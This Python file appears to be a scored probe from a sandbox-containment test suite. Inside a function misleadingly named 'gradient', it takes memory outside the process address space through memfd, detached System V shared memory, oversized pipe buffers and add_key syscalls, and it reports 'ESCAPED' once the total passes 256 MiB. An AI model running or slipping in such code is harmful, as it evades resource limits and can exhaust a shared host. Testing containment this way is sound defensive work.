# Tries: to take memory that is in no address space: memfd, System V shared memory, pipes, queues, keys, extended attributes.
# Worked: ESCAPED, where it got 256 MiB of it.
# worth: 40
# needs: seccomp
import ctypes
import fcntl
import os
import platform


def gradient(steps, values, rules):
    libc = ctypes.CDLL(None, use_errno=True)
    call = libc.syscall if platform.machine() == "x86_64" else lambda *_: -1  # the numbers are its
    libc.shmat.restype = ctypes.c_void_p
    got = 0
    for _ in range(100):  # memfd: pages without an address
        try:
            number = os.memfd_create("x")
            for _ in range(16):
                got += os.write(number, bytes(1 << 20))
        except OSError:
            break
    for _ in range(100):  # a segment stays when it is detached
        segment = libc.shmget(0, 16 << 20, 0o1600)
        if segment < 0:
            break
        address = libc.shmat(segment, None, 0)
        if address in (None, 2 ** 64 - 1):
            break
        ctypes.memset(address, 1, 16 << 20)
        libc.shmdt(ctypes.c_void_p(address))
        got += 16 << 20
    try:
        while True:
            back, forth = os.pipe()
            try:
                fcntl.fcntl(forth, 1031, 1 << 20)  # F_SETPIPE_SZ
            except OSError:
                pass
            os.set_blocking(forth, False)
            try:
                while True:
                    got += os.write(forth, bytes(1 << 16))
            except BlockingIOError:
                pass
    except OSError:
        pass
    for number in range(2000):
        if call(248, b"user", b"%d" % number, bytes(30000), 30000, -4) < 0:  # add_key
            break
        got += 30000
    if got > 256 << 20:
        print("ESC" "APED:", got >> 20, "MiB")
    return {}


def average(rows):
    return [sum(row) / len(row) for row in rows]
